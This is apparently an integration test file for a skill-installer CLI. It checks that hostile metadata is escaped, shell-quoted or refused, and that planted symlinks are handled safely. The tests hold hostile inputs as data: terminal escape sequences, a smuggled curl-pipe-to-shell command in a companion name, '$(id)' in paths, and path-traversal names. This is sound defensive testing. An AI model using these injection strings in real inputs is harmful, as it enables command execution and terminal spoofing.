//! Text from outside driven through the real binary: escape sequences in versions,
//! descriptions, records and companion names never reach the terminal raw; companion names
//! are held to the skill-name rule and printed commands are shell-quoted; install reads
//! SKILL.md as strictly as validate; a version that is not one never replaces a release;
//! closed pipes and non-ASCII records do not make skillpack panic.

use crate::net;

use std::fs;
use std::path::PathBuf;
use std::process::Stdio;

use net::{Reply, Server, index, index_entry, skill_zip};

const ESC_VERSION: &str = "1.0.0\u{1b}[2J\u{1b}[31m";
const ESC_DESCRIPTION: &str = "Clears your screen \u{1b}]0;pwned\u{7} and \u{1b}[2J";

/// A temporary HOME and skills root, and a `skillpack` command using them.
struct Sandbox(net::Home);

impl std::ops::Deref for Sandbox {
    type Target = net::Home;

    fn deref(&self) -> &net::Home {
        &self.0
    }
}

impl Sandbox {
    fn new() -> Sandbox {
        Sandbox(net::Home::new())
    }

    /// `skillpack SUBCOMMAND --dir ROOT ARGS…`, run to completion.
    fn run(&self, sub: &str, args: &[&str]) -> Run {
        let out = self
            .cmd()
            .arg(sub)
            .arg("--dir")
            .arg(self.root())
            .args(args)
            .output()
            .unwrap();
        Run {
            code: out.status.code(),
            stdout: String::from_utf8_lossy(&out.stdout).into_owned(),
            stderr: String::from_utf8_lossy(&out.stderr).into_owned(),
        }
    }

    /// A skill folder `src/<folder>` holding `SKILL.md` with these bytes.
    fn skill_folder(&self, folder: &str, skill_md: &[u8]) -> PathBuf {
        let dir = self.home.path().join("src").join(folder);
        fs::create_dir_all(&dir).unwrap();
        fs::write(dir.join("SKILL.md"), skill_md).unwrap();
        dir
    }

    fn lock_path(&self) -> PathBuf {
        self.root().join(".skillpack/lock.json")
    }

    fn lock(&self) -> serde_json::Value {
        serde_json::from_slice(&fs::read(self.lock_path()).unwrap()).unwrap()
    }

    fn write_lock(&self, lock: &serde_json::Value) {
        fs::write(self.lock_path(), serde_json::to_vec_pretty(lock).unwrap()).unwrap();
    }
}

struct Run {
    code: Option<i32>,
    stdout: String,
    stderr: String,
}

impl Run {
    fn all(&self) -> String {
        format!("{}{}", self.stdout, self.stderr)
    }

    /// No raw escape or bell reached either stream.
    fn assert_clean(&self, what: &str) {
        for raw in ['\u{1b}', '\u{7}', '\u{9b}'] {
            assert!(
                !self.all().contains(raw),
                "{what}: raw {raw:?} in the output:\n{}",
                self.all()
            );
        }
        assert!(
            !self.stderr.contains("panicked"),
            "{what}: panic:\n{}",
            self.stderr
        );
    }
}

fn frontmatter(name: &str, description: &str, version: &str, companions: Option<&str>) -> String {
    let companions = companions
        .map(|c| format!("  recommended_skills: {}\n", serde_json::json!(c)))
        .unwrap_or_default();
    // JSON strings are YAML double-quoted strings: control characters arrive as written.
    format!(
        "---\nname: {name}\ndescription: {}\nmetadata:\n  version: {}\n{companions}---\n# {name}\n\nUse it.\n",
        serde_json::json!(description),
        serde_json::json!(version),
    )
}

// ------------------------------------------------------------ escaping outside text

#[test]
fn escape_sequences_in_a_skill_are_shown_escaped_by_every_command() {
    let s = Sandbox::new();
    let dir = s.skill_folder(
        "evil-skill",
        frontmatter("evil-skill", ESC_DESCRIPTION, ESC_VERSION, None).as_bytes(),
    );
    let dir = dir.to_str().unwrap();

    let install = s.run("install", &[dir, "-v"]);
    install.assert_clean("install");
    assert_eq!(install.code, Some(0), "{}", install.stderr);
    assert!(
        install
            .stderr
            .contains("evil-skill 1.0.0\\u{1b}[2J\\u{1b}[31m to "),
        "{}",
        install.stderr
    );
    // The record keeps the text as it was; JSON output carries it as JSON escapes.
    assert_eq!(s.lock()["skills"]["evil-skill"]["version"], ESC_VERSION);

    let list = s.run("list", &[]);
    list.assert_clean("list");
    assert!(
        list.stdout
            .contains("installed      1.0.0\\u{1b}[2J\\u{1b}[31m  "),
        "{}",
        list.stdout
    );

    let json = s.run("list", &["--json"]);
    let v: serde_json::Value = serde_json::from_str(&json.stdout).unwrap();
    assert_eq!(v["skills"][0]["version"], ESC_VERSION);
    assert!(!json.stdout.contains('\u{1b}'));

    s.run("verify", &[]).assert_clean("verify");
    let again = s.run("install", &[dir, "-v"]);
    again.assert_clean("install again");
    assert!(again.stderr.contains("Up to date"), "{}", again.stderr);
    s.run("update", &["-v"]).assert_clean("update");
    s.run("companions", &["evil-skill"])
        .assert_clean("companions");
    let pack = s
        .cmd()
        .args(["pack", dir, "--out"])
        .arg(s.home.path().join("dist"))
        .output()
        .unwrap();
    let pack = Run {
        code: pack.status.code(),
        stdout: String::from_utf8_lossy(&pack.stdout).into_owned(),
        stderr: String::from_utf8_lossy(&pack.stderr).into_owned(),
    };
    pack.assert_clean("pack");
    let validate = s
        .cmd()
        .args(["validate", dir])
        .output()
        .map(|o| Run {
            code: o.status.code(),
            stdout: String::from_utf8_lossy(&o.stdout).into_owned(),
            stderr: String::from_utf8_lossy(&o.stderr).into_owned(),
        })
        .unwrap();
    validate.assert_clean("validate");
    let uninstall = s.run("uninstall", &["evil-skill"]);
    uninstall.assert_clean("uninstall");
    assert_eq!(uninstall.code, Some(0), "{}", uninstall.stderr);
}

/// C1 controls (U+009B is a one-byte CSI) and bidirectional overrides pass through JSON
/// and TOML writers as they are; skillpack's documents carry them as escapes.
#[test]
fn c1_and_bidi_controls_are_escaped_in_json_documents_and_lock_files() {
    const VERSION: &str = "1.0.0\u{9b}2J\u{202e}";
    const DESCRIPTION: &str = "Reads \u{9b}2J backwards \u{202e}evil\u{202c} text";
    let raw = |text: &str| {
        text.chars()
            .any(|c| matches!(c, '\u{80}'..='\u{9f}' | '\u{202a}'..='\u{202e}'))
    };
    let s = Sandbox::new();
    // YAML takes these characters only as escapes in a double-quoted string.
    let yaml = |text: &str| {
        text.chars()
            .map(|c| match c {
                '\u{80}'..='\u{9f}' | '\u{202a}'..='\u{202e}' => format!("\\u{:04x}", c as u32),
                c => c.to_string(),
            })
            .collect::<String>()
    };
    let dir = s.skill_folder(
        "bidi-skill",
        format!(
            "---\nname: bidi-skill\ndescription: \"{}\"\nmetadata:\n  version: \"{}\"\n---\nUse it.\n",
            yaml(DESCRIPTION),
            yaml(VERSION)
        )
        .as_bytes(),
    );
    let dir = dir.to_str().unwrap();
    for (sub, args) in [
        ("install", vec![dir, "--json"]),
        ("list", vec!["--json"]),
        ("verify", vec!["--json"]),
        ("update", vec!["--json"]),
    ] {
        let run = s.run(sub, &args);
        assert_eq!(run.code, Some(0), "{sub}: {}", run.stderr);
        assert!(
            !raw(&run.stdout),
            "{sub} --json printed a raw control:\n{}",
            run.stdout
        );
        let doc: serde_json::Value = serde_json::from_str(&run.stdout).unwrap();
        if sub == "list" {
            // The escapes are JSON's own: the value reads back as it was.
            assert_eq!(doc["skills"][0]["version"], VERSION);
        }
    }
    let lock = fs::read_to_string(s.lock_path()).unwrap();
    assert!(!raw(&lock), "lock.json holds a raw control:\n{lock}");
    assert_eq!(s.lock()["skills"]["bidi-skill"]["version"], VERSION);

    // The project's lock, which a code review reads.
    let project = s.home.path().join("project");
    fs::create_dir_all(project.join(".git")).unwrap();
    fs::create_dir_all(project.join("skills/bidi-skill")).unwrap();
    fs::copy(
        format!("{dir}/SKILL.md"),
        project.join("skills/bidi-skill/SKILL.md"),
    )
    .unwrap();
    let out = s
        .cmd()
        .current_dir(&project)
        .args(["install", "--scope", "project", "./skills/bidi-skill"])
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let text = fs::read_to_string(project.join("skillpack.lock")).unwrap();
    assert!(!raw(&text), "skillpack.lock holds a raw control:\n{text}");
    assert!(
        text.contains("version = \"1.0.0\\u009b2J\\u202e\""),
        "{text}"
    );
    let check = s
        .cmd()
        .current_dir(&project)
        .args(["sync", "--check"])
        .output()
        .unwrap();
    assert!(
        check.status.success(),
        "the lock reads back as written: {}",
        String::from_utf8_lossy(&check.stderr)
    );
}

#[test]
fn a_damaged_project_lock_names_the_command_that_restores_it() {
    let s = Sandbox::new();
    let project = s.home.path().join("my project");
    let sub = project.join("docs");
    fs::create_dir_all(project.join(".git")).unwrap();
    fs::create_dir_all(&sub).unwrap();
    fs::write(project.join("skillpack.lock"), "version = [\n").unwrap();
    let out = s
        .cmd()
        .current_dir(&sub)
        .args(["sync", "--json"])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(1));
    let doc: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(doc["error"]["kind"], "lock-damaged", "{doc}");
    let hint = doc["error"]["hint"].as_str().unwrap();
    // The command runs as printed: the path is the lock's, one quoted word.
    let quoted = format!(
        "`git checkout -- '{}'`",
        project.join("skillpack.lock").display()
    );
    assert!(hint.contains(&quoted), "{hint}");
    let out = s
        .cmd()
        .current_dir(&project)
        .args(["sync", "--json"])
        .output()
        .unwrap();
    let doc: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    let hint = doc["error"]["hint"].as_str().unwrap();
    assert!(hint.contains("`git checkout -- skillpack.lock`"), "{hint}");
    let other = s.home.path().join("sub dir;$(id)");
    fs::create_dir_all(&other).unwrap();
    let named = other.join("my lock.toml");
    fs::write(&named, "version = [\n").unwrap();
    let out = s
        .cmd()
        .current_dir(&project)
        .args(["sync", "--json", "--lock"])
        .arg(&named)
        .output()
        .unwrap();
    let doc: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    let hint = doc["error"]["hint"].as_str().unwrap();
    let quoted = format!("'{}'", named.display());
    assert!(hint.contains(&quoted), "the path is one shell word: {hint}");
}

#[test]
fn validate_shows_hostile_values_and_lines_escaped() {
    let s = Sandbox::new();
    // `\e` is ESC in a YAML double-quoted string: the value holds the escape sequence.
    let md = "---\nname: \"bad\\e[2Jname\"\ndescription: d\n---\n";
    let dir = s.skill_folder("bad-name", md.as_bytes());
    for format in ["human", "github"] {
        let out = s
            .cmd()
            .args(["validate", "--format", format])
            .arg(&dir)
            .output()
            .unwrap();
        let run = Run {
            code: out.status.code(),
            stdout: String::from_utf8_lossy(&out.stdout).into_owned(),
            stderr: String::from_utf8_lossy(&out.stderr).into_owned(),
        };
        run.assert_clean(format);
        assert_eq!(run.code, Some(1));
        assert!(run.all().contains("\\u{1b}[2J"), "{}", run.all());
    }
}

#[test]
fn escape_sequences_in_the_lock_file_are_shown_escaped() {
    let s = Sandbox::new();
    let dir = s.skill_folder(
        "plain-skill",
        frontmatter("plain-skill", "A plain skill.", "1.0.0", None).as_bytes(),
    );
    assert_eq!(
        s.run("install", &[dir.to_str().unwrap()]).code,
        Some(0),
        "install"
    );
    let mut lock = s.lock();
    let entry = &mut lock["skills"]["plain-skill"];
    entry["version"] = "2.0\u{1b}]0;owned\u{7}".into();
    entry["source"] = serde_json::json!({
        "kind": "github",
        "repo": "acme/\u{1b}[2Jskills",
        "ref": "\u{1b}[31mmain\u{9b}2J",
        "path": "skills/plain-skill",
    });
    s.write_lock(&lock);

    let list = s.run("list", &[]);
    list.assert_clean("list");
    assert_eq!(list.code, Some(0), "{}", list.stderr);
    assert!(
        list.stdout.contains("2.0\\u{1b}]0;owned\\u{7}"),
        "{}",
        list.stdout
    );
    assert!(
        list.stdout
            .contains("acme/\\u{1b}[2Jskills@\\u{1b}[31mmain\\u{9b}2J"),
        "{}",
        list.stdout
    );
    s.run("verify", &[]).assert_clean("verify");
}

// ------------------------------------------------- companion names and printed commands

#[test]
fn companion_names_that_are_not_skill_names_are_ignored_and_commands_are_quoted() {
    let s = Sandbox::new();
    let companions = "crm-management, x;curl${IFS}e.sh|sh;#, ../../.., bad\u{1b}[2J, ok-one";
    let dir = s.skill_folder(
        "host-skill",
        frontmatter("host-skill", "A host.", "1.0.0", Some(companions)).as_bytes(),
    );
    // A skills root whose path needs quoting: the printed command must still be one command.
    let root = s.home.path().join("my skills; echo hi");
    let run = |args: &[&str]| {
        let out = s.cmd().args(args).arg("--dir").arg(&root).output().unwrap();
        Run {
            code: out.status.code(),
            stdout: String::from_utf8_lossy(&out.stdout).into_owned(),
            stderr: String::from_utf8_lossy(&out.stderr).into_owned(),
        }
    };
    let install = run(&["install", dir.to_str().unwrap()]);
    install.assert_clean("install");
    assert_eq!(install.code, Some(0), "{}", install.stderr);
    let quoted_root = format!("'{}'", root.display());
    // `ok-one` is nowhere skillpack can install it from: reported, never in a command.
    let expected = format!("skillpack install crm-management --dir {quoted_root}");
    assert!(install.stderr.contains(&expected), "{}", install.stderr);
    assert!(
        install
            .stderr
            .contains("companion `ok-one` was not found in the catalog"),
        "{}",
        install.stderr
    );
    for shown in [
        "ignoring the companion `x;curl${IFS}e.sh|sh;#` declared by host-skill",
        "ignoring the companion `../../..` declared by host-skill",
        "ignoring the companion `bad\\u{1b}[2J` declared by host-skill",
    ] {
        assert!(
            install.stderr.contains(shown),
            "{shown}\n{}",
            install.stderr
        );
    }
    for line in install.stderr.lines() {
        if line.contains("skillpack install") {
            assert!(!line.contains("curl"), "{line}");
            assert!(!line.contains("../../.."), "{line}");
        }
    }

    let listed = run(&["companions", "host-skill"]);
    listed.assert_clean("companions");
    assert_eq!(listed.code, Some(0), "{}", listed.stderr);
    let names: Vec<&str> = listed
        .stdout
        .lines()
        .skip(1)
        .filter_map(|l| l.split_whitespace().next())
        .collect();
    assert_eq!(names, ["crm-management", "ok-one"], "{}", listed.stdout);
    assert!(
        listed.stdout.contains("not found in the catalog"),
        "{}",
        listed.stdout
    );
    assert!(!listed.all().contains("install ok-one"), "{}", listed.all());
    assert!(listed.stderr.contains(&expected), "{}", listed.stderr);
    assert!(!listed.all().contains("install ../"), "{}", listed.all());

    let json = run(&["companions", "host-skill", "--json"]);
    let v: serde_json::Value = serde_json::from_str(&json.stdout).unwrap();
    let names: Vec<&str> = v["companions"]
        .as_array()
        .unwrap()
        .iter()
        .map(|c| c["name"].as_str().unwrap())
        .collect();
    assert_eq!(names, ["crm-management", "ok-one"]);

    // Nothing but the skill itself was created beside it.
    let mut present: Vec<String> = fs::read_dir(&root)
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .collect();
    present.sort();
    assert_eq!(present, [".skillpack", "host-skill"]);
}

#[test]
fn the_companions_command_takes_only_a_skill_name() {
    let s = Sandbox::new();
    let out = s.run("companions", &["../../etc"]);
    assert_eq!(out.code, Some(2), "{}", out.stderr);
    assert!(out.stderr.contains("is not a skill name"), "{}", out.stderr);
}

#[test]
fn an_unpinned_url_hint_quotes_the_url() {
    let s = Sandbox::new();
    let srv = Server::start();
    srv.route(
        "/a;b/s.zip",
        vec![Reply::Body(skill_zip("url-skill", "1.0.0"))],
    );
    let url = srv.url("/a;b/s.zip");
    let out = s.run("install", &[&url]);
    assert_eq!(out.code, Some(1), "{}", out.stderr);
    assert!(
        out.stderr
            .contains(&format!("run `skillpack install '{url}' --sha256 ")),
        "{}",
        out.stderr
    );
}

// ------------------------------------------------------ install reads like validate

#[test]
fn install_refuses_a_skill_md_that_is_not_utf8_as_validate_does() {
    let s = Sandbox::new();
    let mut md = b"---\nname: my-skill\ndescription: caf".to_vec();
    md.extend([0xe9, 0xff]);
    md.extend(b"\n---\n# Body\n");
    let dir = s.skill_folder("my-skill", &md);

    let validate = s
        .cmd()
        .args(["validate", "--json"])
        .arg(&dir)
        .output()
        .unwrap();
    let v: serde_json::Value = serde_json::from_slice(&validate.stdout).unwrap();
    let rules: Vec<&str> = v["skills"][0]["diagnostics"]
        .as_array()
        .unwrap()
        .iter()
        .map(|d| d["rule"].as_str().unwrap())
        .collect();
    assert!(rules.contains(&"not-utf8"), "{rules:?}");

    let install = s.run("install", &[dir.to_str().unwrap()]);
    assert_eq!(install.code, Some(1), "{}", install.stderr);
    assert!(
        install.stderr.contains(
            "my-skill/SKILL.md:3:17: error[not-utf8]: SKILL.md is not valid UTF-8; save it as UTF-8"
        ),
        "{}",
        install.stderr
    );
    assert!(!install.stderr.contains(".skillpack/staging"));
    assert!(!s.root().join("my-skill").exists());

    // The same file inside a release zip: the same rule, the same entry name.
    let zip = net::zip(&[("my-skill/SKILL.md".to_string(), md.clone())]);
    let zip_path = s.home.path().join("my-skill.zip");
    fs::write(&zip_path, zip).unwrap();
    let install = s.run("install", &[zip_path.to_str().unwrap(), "--json"]);
    assert_eq!(install.code, Some(1), "{}", install.stderr);
    let v: serde_json::Value = serde_json::from_str(&install.stdout).unwrap();
    assert_eq!(v["error"]["kind"], "invalid-skill");
    let message = v["error"]["message"].as_str().unwrap();
    assert!(
        message.ends_with(
            ": my-skill/SKILL.md:3:17: error[not-utf8]: SKILL.md is not valid UTF-8; save it as UTF-8"
        ),
        "{message}"
    );
    assert!(message.contains("not-utf8"), "{message}");
    assert!(!s.root().join("my-skill").exists());
}

#[test]
fn install_refusals_name_the_entry_not_the_staging_folder() {
    let s = Sandbox::new();
    let dir = s.skill_folder(
        "folder-name",
        frontmatter("other-name", "Mismatched.", "1.0.0", None).as_bytes(),
    );
    let install = s.run("install", &[dir.to_str().unwrap()]);
    assert_eq!(install.code, Some(1), "{}", install.stderr);
    assert!(
        install
            .stderr
            .contains("folder-name/SKILL.md:2:7: error[name-mismatch]"),
        "{}",
        install.stderr
    );
    assert!(!install.stderr.contains(".skillpack/staging"));
    assert!(!install.stderr.contains("staging"), "{}", install.stderr);

    // A bare archive (SKILL.md at the top) whose name is not a skill name.
    let zip = net::zip(&[(
        "SKILL.md".to_string(),
        frontmatter("Bad_Name", "Bad.", "1.0.0", None).into_bytes(),
    )]);
    let zip_path = s.home.path().join("bare.zip");
    fs::write(&zip_path, zip).unwrap();
    let install = s.run("install", &[zip_path.to_str().unwrap()]);
    assert_eq!(install.code, Some(1), "{}", install.stderr);
    assert!(
        install
            .stderr
            .contains(": SKILL.md:2:7: error[name-not-lowercase]"),
        "{}",
        install.stderr
    );
    assert!(!install.stderr.contains("staging"), "{}", install.stderr);
}

// --------------------------------------------------------------------- index versions

fn serve(srv: &Server, path: &str, entries: Vec<serde_json::Value>) -> String {
    srv.route(path, vec![Reply::Body(index(entries))]);
    srv.url(path)
}

#[test]
fn an_index_version_that_is_not_semver_never_replaces_the_embedded_skill() {
    let s = Sandbox::new();
    let srv = Server::start();
    srv.route(
        "/am.zip",
        vec![Reply::Body(skill_zip("account-management", "zzz"))],
    );
    for (path, version) in [
        ("/zzz/index.json", "zzz"),
        ("/latest/index.json", "latest"),
        ("/rc/index.json", "0.1.0-rc.9"),
    ] {
        let url = serve(
            &srv,
            path,
            vec![index_entry("account-management", version, "../am.zip")],
        );
        let out = s.run("install", &["account-management", "--index", &url]);
        assert_eq!(out.code, Some(0), "{version}: {}", out.stderr);
        let lock = s.lock();
        assert_eq!(
            lock["skills"]["account-management"]["source"]["kind"], "embedded",
            "{version}"
        );
        assert_eq!(lock["skills"]["account-management"]["version"], "0.1.0");
    }
    assert_eq!(srv.hits("/am.zip"), 0);
}

#[test]
fn index_pre_releases_order_as_semver_says() {
    let s = Sandbox::new();
    let srv = Server::start();
    // Several entries for one name: the newest by SemVer precedence is taken.
    for v in ["1.0.0-alpha", "1.0.0-beta.11", "1.0.0-beta.2"] {
        srv.route(
            &format!("/pre-{v}.zip"),
            vec![Reply::Body(skill_zip("pre-skill", v))],
        );
    }
    let url = serve(
        &srv,
        "/index.json",
        ["1.0.0-alpha", "1.0.0-beta.11", "1.0.0-beta.2"]
            .iter()
            .map(|v| index_entry("pre-skill", v, &format!("pre-{v}.zip")))
            .collect(),
    );
    let out = s.run("install", &["pre-skill", "--index", &url]);
    assert_eq!(out.code, Some(0), "{}", out.stderr);
    assert_eq!(s.lock()["skills"]["pre-skill"]["version"], "1.0.0-beta.11");
}

#[test]
fn index_entries_whose_name_is_not_a_skill_name_are_ignored_with_a_warning() {
    let s = Sandbox::new();
    let srv = Server::start();
    srv.route("/alpha.zip", vec![Reply::Body(skill_zip("alpha", "1.0.0"))]);
    let mut hostile = index_entry("alpha", "9.9.9", "alpha.zip");
    hostile["name"] = "../../alpha\u{1b}[2J".into();
    let url = serve(
        &srv,
        "/index.json",
        vec![index_entry("alpha", "1.0.0", "alpha.zip"), hostile],
    );
    let out = s.run("install", &["alpha", "--index", &url]);
    out.assert_clean("install");
    assert_eq!(out.code, Some(0), "{}", out.stderr);
    assert!(
        out.stderr
            .contains("ignoring the entry `../../alpha\\u{1b}[2J` of the index"),
        "{}",
        out.stderr
    );
    assert_eq!(out.stderr.matches("ignoring the entry").count(), 1);
    assert_eq!(s.lock()["skills"]["alpha"]["version"], "1.0.0");

    // An unknown name lists what the index offers: never the hostile entry.
    let out = s.run("install", &["beta", "--index", &url]);
    out.assert_clean("unknown");
    assert_eq!(out.code, Some(1));
    assert!(out.stderr.contains("alpha"), "{}", out.stderr);
    assert!(!out.stderr.contains("known: ../"), "{}", out.stderr);
}

// ----------------------------------------------------- closed pipes and wide records

/// Runs skillpack with stdout a pipe whose read end is already closed.
fn run_into_closed_pipe(s: &Sandbox, args: &[&str]) -> Run {
    let (reader, writer) = std::io::pipe().unwrap();
    drop(reader);
    let out = s
        .std_cmd()
        .args(args)
        .stdout(Stdio::from(writer))
        .stderr(Stdio::piped())
        .output()
        .unwrap();
    Run {
        code: out.status.code(),
        stdout: String::new(),
        stderr: String::from_utf8_lossy(&out.stderr).into_owned(),
    }
}

#[test]
fn writing_to_a_closed_pipe_exits_quietly() {
    let s = Sandbox::new();
    assert_eq!(s.run("install", &[]).code, Some(0));
    let root = s.root();
    let root = root.to_str().unwrap();
    for args in [
        vec!["list", "--dir", root],
        vec!["list", "--dir", root, "--json"],
        vec!["companions", "--dir", root],
        vec!["--help"],
        vec!["install", "--help"],
        vec!["completions", "bash"],
        vec!["man"],
    ] {
        let out = run_into_closed_pipe(&s, &args);
        assert_eq!(out.code, Some(0), "{args:?}: {}", out.stderr);
        assert!(!out.stderr.contains("panicked"), "{args:?}: {}", out.stderr);
        assert!(
            !out.stderr.to_lowercase().contains("broken pipe"),
            "{args:?}: {}",
            out.stderr
        );
    }
}

#[test]
fn non_ascii_versions_and_refs_in_the_lock_list_fine() {
    let s = Sandbox::new();
    assert_eq!(s.run("install", &[]).code, Some(0));
    let mut lock = s.lock();
    let entry = &mut lock["skills"]["account-management"];
    entry["version"] = "ü".repeat(40).into();
    entry["source"] = serde_json::json!({
        "kind": "github",
        "repo": "acme/技能",
        "ref": "分支名称很长的一个参考名字",
        "path": "skills/account-management",
    });
    s.write_lock(&lock);
    for columns in ["20", "80"] {
        let out = s
            .cmd()
            .args(["list", "--dir"])
            .arg(s.root())
            .env("COLUMNS", columns)
            .output()
            .unwrap();
        let stderr = String::from_utf8_lossy(&out.stderr);
        assert!(out.status.success(), "{stderr}");
        assert!(!stderr.contains("panicked"), "{stderr}");
        let stdout = String::from_utf8(out.stdout).unwrap();
        assert!(stdout.contains(&"ü".repeat(40)), "{stdout}");
        // The ref is shortened by characters, not bytes.
        assert!(
            stdout.contains("acme/技能@分支名称很长的一个参考名"),
            "{stdout}"
        );
        assert!(!stdout.contains("参考名字"), "{stdout}");
    }
    let verify = s.run("verify", &[]);
    assert!(!verify.stderr.contains("panicked"), "{}", verify.stderr);
}

#[test]
#[cfg(unix)]
fn companions_of_a_skill_whose_folder_is_a_link_name_the_link_and_how_to_put_it_back() {
    let s = Sandbox::new();
    let install = s.run("install", &["--no-companions"]);
    assert_eq!(install.code, Some(0), "{}", install.stderr);
    let victim = s.home.path().join("victim");
    fs::create_dir_all(&victim).unwrap();
    fs::write(victim.join("keep.txt"), "precious").unwrap();
    let folder = s.root().join("account-management");
    fs::remove_dir_all(&folder).unwrap();
    std::os::unix::fs::symlink(&victim, &folder).unwrap();
    let out = s.run("companions", &["account-management"]);
    assert_eq!(out.code, Some(1), "{}", out.stderr);
    assert!(out.stderr.contains("is a symbolic link"), "{}", out.stderr);
    assert!(!out.stderr.contains("not in the catalog"), "{}", out.stderr);
    let hint = out
        .stderr
        .split_once("hint: `")
        .and_then(|(_, rest)| rest.split_once('`'))
        .map(|(cmd, _)| cmd.to_string())
        .unwrap_or_else(|| panic!("{}", out.stderr));
    let words = shlex::split(&hint).unwrap();
    assert_eq!(words[..3], ["skillpack", "install", "--force"]);
    let fixed = s.cmd().args(&words[1..]).output().unwrap();
    assert!(
        fixed.status.success(),
        "{}",
        String::from_utf8_lossy(&fixed.stderr)
    );
    assert!(folder.join("SKILL.md").is_file());
    assert_eq!(
        fs::read_to_string(victim.join("keep.txt")).unwrap(),
        "precious"
    );
    assert_eq!(fs::read_dir(&victim).unwrap().count(), 1);
    let again = s.run("companions", &["account-management"]);
    assert_eq!(again.code, Some(0), "{}", again.stderr);
}

#[test]
#[cfg(unix)]
fn companions_never_read_through_a_link_planted_in_the_skills_root() {
    let s = Sandbox::new();
    let dir = s.skill_folder(
        "host-skill",
        frontmatter("host-skill", "A host.", "1.0.0", Some("ok-one")).as_bytes(),
    );
    let install = s.run("install", &[dir.to_str().unwrap(), "--no-companions"]);
    assert_eq!(install.code, Some(0), "{}", install.stderr);
    // A folder outside the root, linked in under the companion's name.
    let victim = s.home.path().join("victim/vskill");
    fs::create_dir_all(&victim).unwrap();
    fs::write(
        victim.join("SKILL.md"),
        frontmatter("ok-one", "Outside.", "9.9.9-SECRETOUTSIDE", Some("deeper")),
    )
    .unwrap();
    std::os::unix::fs::symlink(&victim, s.root().join("ok-one")).unwrap();

    for args in [
        &["host-skill"][..],
        &["host-skill", "--json"],
        &["host-skill", "--depth", "3"],
    ] {
        let listed = s.run("companions", args);
        assert_eq!(listed.code, Some(0), "{}", listed.stderr);
        assert!(!listed.all().contains("SECRETOUTSIDE"), "{}", listed.all());
        assert!(!listed.all().contains("deeper"), "{}", listed.all());
        assert!(listed.all().contains("ok-one"), "{}", listed.all());
    }
}
